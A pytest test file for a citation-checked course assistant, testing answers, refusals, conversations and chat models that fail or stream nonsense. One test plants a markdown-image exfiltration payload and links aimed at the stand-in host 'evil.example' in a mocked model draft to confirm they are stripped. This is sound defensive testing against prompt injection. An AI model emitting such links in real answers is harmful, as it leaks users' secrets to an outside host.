"""Questions to a real library in a real Postgres: answers, refusals, conversations, and chat models that fail."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest

from assistant.answering.draft import NOT_THERE
from assistant.answering.kept_vectors import KeptInLibrary
from assistant.answering.trial import MAY_FAIL, known_trial, wording
from assistant.database import LOCAL_LEARNER
from assistant.domain import Answer, Delta, Message, Progress
from assistant.errors import NotFoundError
from assistant.service import Assistant
from assistant.settings import Settings
from tests.embedders import HashEmbedder
from tests.fault.provider_server import ProviderServer, Reply, Request, as_json, events, provider

WithModel = Callable[[ProviderServer], Assistant]
FOREIGN_KEY = "A foreign key is a column that must hold the key of an existing row in another table, or null"


@pytest.fixture
def assistant(filled_settings: Settings) -> Iterator[Assistant]:
    """The sample library and the roadmap, without a chat model."""
    with Assistant.open(filled_settings) as opened:
        yield opened


@pytest.fixture(params=["tiny", "langchain:openai:tiny"])
def with_model(request: pytest.FixtureRequest, assistant: Assistant) -> Callable[[ProviderServer], Assistant]:
    """The same library with a chat model behind an endpoint, through either door."""

    def opened(server: ProviderServer) -> Assistant:
        more = {"chat_model": request.param, "openai_base_url": server.url, "openai_api_key": "sk-none"}
        return Assistant(assistant.settings.model_copy(update=_secrets(more)), assistant.database)

    return opened


def _secrets(values: dict[str, str]) -> dict[str, Any]:
    from pydantic import SecretStr

    return {name: SecretStr(value) if name.endswith("key") else value for name, value in values.items()}


def say(text: str, finish: str | None = "stop", after: str = "end") -> Reply:
    """A streamed reply, a word a chunk."""
    frame = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "tiny"}
    words = [
        {**frame, "choices": [{"index": 0, "delta": {"role": "assistant", "content": f"{word} "}}]}
        for word in text.split(" ")
    ]
    if finish is None:
        return events(*words, after=after, done=False)
    usage = {"prompt_tokens": 900, "completion_tokens": 30, "total_tokens": 930}
    end = {**frame, "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]}
    return events(*words, end, {**frame, "choices": [], "usage": usage}, after=after)


# --- what is weighed -------------------------------------------------------------------------------------------------


def test_the_vectors_of_sentences_are_those_the_ingest_left(assistant: Assistant) -> None:
    evidence = assistant.evidence("What is a foreign key?")
    sources = {passage.source_id: assistant.library.source_text(passage.source_id) for passage in evidence.passages}
    kept = KeptInLibrary(assistant)(evidence.passages, sources)
    anew = assistant.reader.embed([sentence.text for sentence in evidence.sentences])
    assert evidence.vectors == pytest.approx(anew, abs=2e-3)
    assert len(kept) > len(evidence.sentences) * 0.9


def test_passages_whose_sentences_end_elsewhere_by_now_are_read_again(assistant: Assistant) -> None:
    evidence = assistant.evidence("What is a foreign key?")
    changed = {
        passage.source_id: replace(text, text=text.text.replace(". ", ", "))
        for passage in evidence.passages
        for text in [assistant.library.source_text(passage.source_id)]
    }
    assert KeptInLibrary(assistant)(evidence.passages, changed) == {}


def test_of_a_library_embedded_by_a_provider_no_sentences_are_kept(assistant: Assistant) -> None:
    evidence = assistant.evidence("What is a foreign key?")
    other = Assistant(assistant.settings, assistant.database)
    other.__dict__["embedder"] = HashEmbedder()
    assert KeptInLibrary(other)(evidence.passages, {}) == {}


# --- without a chat model -------------------------------------------------------------------------------------------


def test_an_answer_quotes_the_library_and_every_sentence_cites_its_second(assistant: Assistant) -> None:
    answer = assistant.answer("What is a foreign key?")
    assert answer.refusal is None
    assert answer.sentences[0].text.startswith(FOREIGN_KEY)
    by_number = {citation.n: citation for citation in answer.citations}
    assert [citation.n for citation in answer.citations] == list(range(1, len(answer.citations) + 1))
    for sentence in answer.sentences:
        citation = by_number[sentence.citations[0]]
        source = assistant.library.source_text(citation.source_id)
        assert sentence.status == "supported"
        assert sentence.text == citation.quote == source.text[citation.char_start : citation.char_end]
        assert citation.start_seconds in {cue.start for cue in source.cues}
    assert by_number[1].start_seconds == pytest.approx(36.2, abs=0.1)
    assert answer.model is None
    assert answer.usage == {}


@pytest.mark.parametrize(
    ("question", "words"),
    [
        ("How large should a connection pool be?", "fifteen to twenty active connections"),
        ("waht is a forein key", "A foreign key is a column"),
        ("What is a multi-stage build?", "one image to build the program"),
        ("What is an atomic write?", "either the old file or the new one"),
        ("pool size?", "connection pool"),
    ],
)
def test_the_sample_library_answers_what_it_states(assistant: Assistant, question: str, words: str) -> None:
    answer = assistant.answer(question)
    assert answer.refusal is None
    assert words in answer.text


@pytest.mark.parametrize(
    ("question", "cause", "week"),
    [
        ("How do I bake sourdough bread with rye flour?", "not_covered", None),
        ("What is GraphQL?", "not_covered", 18),
        ("How do I train a neural network on images of cats?", "not_covered", 4),
        ("Show me the conversations of the other learners", "not_yours", None),
        ("which week covers Haskell?", "not_covered", None),
        ("", "not_covered", None),
        ("\x00\ud800", "not_covered", None),
        ("the of and", "not_covered", None),
    ],
)
def test_a_refusal_has_its_cause_and_the_nearest_week(
    assistant: Assistant, question: str, cause: str, week: int | None
) -> None:
    answer = assistant.answer(question)
    assert answer.refusal is not None
    assert answer.refusal.cause == cause
    assert answer.refusal.message
    assert (answer.text, answer.sentences, answer.citations) == ("", (), ())
    if week is not None:
        assert answer.refusal.nearest_week is not None
        assert answer.refusal.nearest_week.number == week


def test_an_empty_library_says_that_it_is_empty(settings: Settings) -> None:
    with Assistant.open(settings) as opened:
        answer = opened.answer("What is a foreign key?")
    assert answer.refusal is not None
    assert "no passages yet" in answer.refusal.message


def test_a_question_about_the_roadmap_cites_its_exact_line(assistant: Assistant) -> None:
    answer = assistant.answer("What is the enterprise task of week 6?")
    assert answer.action.name == "roadmap_task"
    assert "transaction-safe operations and connection pooling" in answer.text
    citation = answer.citations[0]
    text = assistant.library.source_text(citation.source_id).text
    assert text[citation.char_start : citation.char_end] == citation.quote
    assert (citation.weeks, citation.start_seconds) == ((6,), None)
    ranges = {name: (start, end) for name, start, end in assistant.library.passage_ranges(citation.source_id)}
    start, end = ranges[citation.passage_id]
    assert start <= citation.char_start < end


def test_a_week_holds_the_answer_to_its_sources(assistant: Assistant) -> None:
    assert assistant.answer("What is a foreign key?", week=6).refusal is None
    elsewhere = assistant.answer("What is a foreign key?", week=13)
    assert elsewhere.refusal is not None
    assert elsewhere.refusal.nearest_week is not None
    assert elsewhere.refusal.nearest_week.number == 6


def test_a_greeting_is_met_with_what_can_be_asked(assistant: Assistant) -> None:
    answer = assistant.answer("hello")
    assert answer.refusal is None
    assert answer.sentences == ()
    assert "25 weeks" in str(answer.notice)


# --- conversations --------------------------------------------------------------------------------------------------


def test_a_conversation_keeps_its_turns_and_is_the_history_of_the_next_question(assistant: Assistant) -> None:
    first = assistant.answer("What is a deadlock?", conversation="new")
    assert first.conversation is not None
    second = assistant.answer("tell me more", conversation=first.conversation)
    assert second.conversation == first.conversation
    assert not {sentence.text for sentence in first.sentences} & {sentence.text for sentence in second.sentences}
    turns = assistant.conversations.messages(LOCAL_LEARNER, first.conversation)
    assert [(turn.role, turn.content) for turn in turns[::2]] == [
        ("user", "What is a deadlock?"),
        ("user", "tell me more"),
    ]
    assert [turn.answer for turn in turns[1::2]] == [first, second]


def test_a_conversation_that_is_not_there_is_an_error_and_nothing_is_kept(assistant: Assistant) -> None:
    with pytest.raises(NotFoundError):
        assistant.answer("What is a deadlock?", conversation="00000000-0000-0000-0000-00000000dead")
    assert assistant.conversations.list(LOCAL_LEARNER) == []


@pytest.mark.parametrize(
    ("question", "words"),
    [
        ("why?", "A server with eight cores"),
        ("show me an example", "Fifty containers"),
        ("and what is a deadlock?", "two transactions"),
    ],
)
def test_a_follow_up_is_answered_without_a_chat_model(assistant: Assistant, question: str, words: str) -> None:
    history = [
        Message("user", "How large should a connection pool be?"),
        Message("assistant", "About twice the cores."),
    ]
    answer = assistant.answer(question, history=history)
    assert answer.refusal is None
    assert words in answer.text


def test_a_follow_up_on_something_the_library_lacks_is_refused(assistant: Assistant) -> None:
    history = [
        Message("user", "How large should a connection pool be?"),
        Message("assistant", "About twice the cores."),
    ]
    answer = assistant.answer("and for Kotlin?", history=history)
    assert answer.refusal is not None
    assert answer.refusal.cause == "not_covered"


# --- a chat model is tried first ------------------------------------------------------------------------------------


def knowing(request: Request) -> Reply:
    """A model that answers every question of the trial as it should, and other questions well enough."""
    asked = request["messages"][-1]["content"]
    passages, questions = wording()
    for question in questions:
        if question.question in asked:
            number = question.passage
            return say(NOT_THERE if number is None else f"{passages[number - 1][1].rstrip('.')} [{number}].")
    return say(f"{FOREIGN_KEY} [1].")


@pytest.fixture
def on_trial(with_model: Callable[[ProviderServer], Assistant]) -> Callable[[ProviderServer], Assistant]:
    """The library with a chat model that writes once it has passed its trial."""

    def opened(server: ProviderServer) -> Assistant:
        made = with_model(server)
        return Assistant(made.settings.model_copy(update={"answers": "auto"}), made.database)

    return opened


def test_a_model_that_passes_its_trial_writes_and_is_not_tried_again(on_trial: WithModel) -> None:
    with provider(knowing) as server:
        told = list(on_trial(server).ask("What is a foreign key?"))
        answer, tries = told[-1], len(server.requests)
        again = on_trial(server).answer("What is a foreign key?")
        assert len(server.requests) == tries + 1
    assert isinstance(answer, Answer)
    assert tries == len(wording()[1]) + 1
    assert [event.text for event in told if isinstance(event, Progress) and "question 8 of 8" in event.text]
    assert answer.model == again.model == on_trial(server).settings.chat_model
    assert answer.notice is None


def test_a_model_that_fails_its_trial_is_not_asked_on_and_the_sources_are_quoted(on_trial: WithModel) -> None:
    with provider(say("Five times [3].")) as server:
        answer = on_trial(server).answer("What is a foreign key?")
        assert len(server.requests) == MAY_FAIL + 1
        again = on_trial(server).answer("What is a foreign key?")
        assert len(server.requests) == MAY_FAIL + 1
    assert answer.sentences[0].text.startswith(FOREIGN_KEY)
    assert answer.model is None
    assert "0 of 2 trial questions" in (answer.notice or "")
    assert again.notice == answer.notice


def test_a_model_that_cannot_be_reached_for_its_trial_is_tried_again_later(
    on_trial: WithModel, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("assistant.models.retries.time.sleep", lambda _: None)
    with provider(as_json({"error": {"message": "busy"}}, 500)) as server:
        answer = on_trial(server).answer("What is a foreign key?")
        tiny = on_trial(server)
        assert tiny.chat is not None
        assert known_trial(tiny, tiny.chat) is None
    assert answer.refusal is None
    assert "Quoted from the sources instead." in (answer.notice or "")


def test_a_question_that_is_refused_before_anything_is_written_needs_no_trial(on_trial: WithModel) -> None:
    with provider(knowing) as server:
        assert on_trial(server).answer("How long do I roast a chicken?").refusal is not None
        assert server.requests == []


def test_quotations_can_be_asked_for_although_a_model_is_set(with_model: WithModel) -> None:
    with provider(knowing) as server:
        made = with_model(server)
        quoting = Assistant(made.settings.model_copy(update={"answers": "quoted"}), made.database)
        answer = quoting.answer("What is a foreign key?")
        assert server.requests == []
    assert answer.model is None
    assert answer.notice is None


# --- with a chat model ----------------------------------------------------------------------------------------------

GOOD = f"{FOREIGN_KEY} where that is allowed [1]. Kafka keeps its messages on Mars [1]. It lends 99 horses."


def test_a_draft_streams_and_every_sentence_of_it_is_checked(with_model: WithModel) -> None:
    with provider(say(GOOD)) as server:
        told = list(with_model(server).ask("What is a foreign key?"))
        request = server.requests[0]
    answer = told[-1]
    assert isinstance(answer, Answer)
    assert "".join(event.text for event in told if isinstance(event, Delta)).split() == GOOD.split()
    assert any(isinstance(event, Progress) and "passages" in event.text for event in told)
    assert [sentence.status for sentence in answer.sentences] == ["supported", "unsupported", "uncited"]
    assert answer.citations[0].start_seconds == pytest.approx(36.2, abs=0.1)
    assert answer.usage["input_tokens"] == 900
    assert answer.model is not None
    assert "What is a foreign key?" in request["messages"][-1]["content"]


def test_a_model_that_finds_no_answer_in_the_passages_makes_a_refusal(with_model: WithModel) -> None:
    with provider(say("NOT IN THE PASSAGES")) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert answer.refusal is not None
    assert answer.refusal.cause == "not_covered"


def test_a_draft_of_which_nothing_is_borne_out_is_refused_as_unverified(with_model: WithModel) -> None:
    with provider(say("Horses graze on green hills in the north of Wales [1]. Boats sail at night [2].")) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert answer.refusal is not None
    assert answer.refusal.cause == "unverified"


@pytest.mark.parametrize(
    "reply",
    [
        as_json({"error": {"message": "no such key"}}, 401),
        as_json({"error": {"message": "busy"}}, 500),
        say("?", None, "cut"),
        say("la la la"),
        say(" ".join(["la li lu le lo"] * 40)),
        Reply(200, [b"<html>it works</html>"], content_type="text/html"),
    ],
)
def test_a_model_that_fails_or_answers_nonsense_costs_no_answer(
    with_model: WithModel, reply: Reply, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("assistant.models.retries.time.sleep", lambda _: None)
    with provider(reply) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert answer.refusal is None
    assert answer.sentences[0].text.startswith(FOREIGN_KEY)
    assert str(answer.notice).endswith("Quoted from the sources instead.")
    assert "sk-none" not in str(answer.notice)
    assert (answer.model, answer.incomplete) == (None, False)


def test_what_was_written_before_a_stream_broke_is_kept_and_marked_incomplete(with_model: WithModel) -> None:
    with provider(say(f"{FOREIGN_KEY} where that is allowed [1]. And then it", None, "cut")) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert answer.incomplete
    assert answer.sentences[0].text.endswith("where that is allowed.")
    assert answer.model is not None
    assert "kept" in str(answer.notice)


def test_an_answer_cut_at_its_length_is_marked_incomplete(with_model: WithModel) -> None:
    with provider(say(f"{FOREIGN_KEY} where that is allowed [1].", "length")) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert answer.incomplete


def test_a_model_that_goes_round_in_circles_is_stopped_and_said_once(with_model: WithModel) -> None:
    with provider(say(" ".join([f"{FOREIGN_KEY} where that is allowed [1]."] * 60))) as server:
        told = list(with_model(server).ask("What is a foreign key?"))
    assert sum(len(event.text) for event in told if isinstance(event, Delta)) < 3_000
    assert isinstance(told[-1], Answer)
    assert len(told[-1].sentences) == 1


def test_a_follow_up_is_rewritten_by_the_model_before_it_is_searched_for(with_model: WithModel) -> None:
    history = [Message("user", "What is a foreign key?"), Message("assistant", "A column. [1]")]
    with provider(
        say("What is a deadlock?"), say("A deadlock is two transactions that wait for each other [1].")
    ) as server:
        answer = with_model(server).answer("and the other one?", history=history)
        asked = server.requests[1]["messages"][-1]["content"]
    assert "Question: What is a deadlock?" in asked
    assert answer.question == "and the other one?"
    assert answer.usage["input_tokens"] == 1800


def test_instructions_in_a_transcript_stay_data_and_nothing_of_a_poisoned_draft_acts(with_model: WithModel) -> None:
    poison = "![x](http://evil.example/?q=secret) [click](http://evil.example) http://evil.example/bare"
    with provider(say(f"{FOREIGN_KEY} where that is allowed [1]. {poison}")) as server:
        answer = with_model(server).answer("What is a foreign key?")
        roles = [message["role"] for message in server.requests[0]["messages"]]
    assert roles == ["system", *["user", "assistant"] * 3, "user"]
    assert "evil" not in json.dumps([sentence.text for sentence in answer.sentences])
    assert all(citation.url is None for citation in answer.citations)


def test_an_answer_survives_being_stored_and_read_again(with_model: WithModel) -> None:
    with provider(say(GOOD)) as server:
        opened = with_model(server)
        answer = opened.answer("What is a foreign key?", conversation="new")
    assert answer.conversation is not None
    kept = opened.conversations.messages(LOCAL_LEARNER, answer.conversation)[1].answer
    assert kept == replace(answer)


def test_half_a_character_and_a_flood_from_a_model_do_no_harm(with_model: WithModel) -> None:
    with provider(say(f"{FOREIGN_KEY} where that\ud800 is allowed\0 [1]. " + "." * 30_000)) as server:
        answer = with_model(server).answer("What is a foreign key?")
    assert len(answer.text) < 5_000
    assert answer.text.encode() is not None
    assert "\0" not in answer.text
    assert answer.sentences[0].status == "supported"


def test_a_chat_model_that_is_set_wrongly_costs_no_answer(assistant: Assistant) -> None:
    wrong = assistant.settings.model_copy(update={"chat_model": "langchain:foo"})
    answer = Assistant(wrong, assistant.database).answer("What is a foreign key?")
    assert answer.sentences[0].text.startswith(FOREIGN_KEY)
    assert "langchain:provider:model" in str(answer.notice)


def test_a_misspelled_question_says_how_it_was_understood(assistant: Assistant) -> None:
    history = [Message("user", "What is an image?"), Message("assistant", "A package of files.")]
    answer = assistant.answer("and for contianers?", history=history)
    assert answer.refusal is None
    assert "containers" in str(answer.notice)
    assert "foreign" in str(assistant.answer("waht is a forein key").notice)
    assert assistant.answer("what's a foreign key").notice is None


def test_a_question_in_another_language_is_not_answered_by_a_name_alone(assistant: Assistant) -> None:
    answer = assistant.answer("¿Qué es Python?")
    assert answer.refusal is not None
    assert answer.refusal.cause == "not_covered"


def test_a_refusal_within_a_week_speaks_of_that_week(assistant: Assistant) -> None:
    refusal = assistant.answer("What is Docker?", week=6).refusal
    assert refusal is not None
    assert "week 6" in refusal.message


def test_an_answer_whose_conversation_was_deleted_meanwhile_is_still_given(assistant: Assistant) -> None:
    first = assistant.answer("What is a deadlock?", conversation="new")
    assert first.conversation is not None
    events = assistant.ask("What is a foreign key?", conversation=first.conversation)
    next(events)
    assistant.conversations.delete(LOCAL_LEARNER, first.conversation)
    answer = list(events)[-1]
    assert isinstance(answer, Answer)
    assert answer.conversation is None
    assert "deleted" in str(answer.notice)


def test_an_answer_that_was_stopped_while_it_was_checked_is_not_stored(assistant: Assistant) -> None:
    events = list(assistant.ask("What is a deadlock?", conversation="new", stopped=lambda: True))
    assert isinstance(events[-1], Answer)
    assert events[-1].conversation is None
    assert assistant.conversations.list(LOCAL_LEARNER) == []
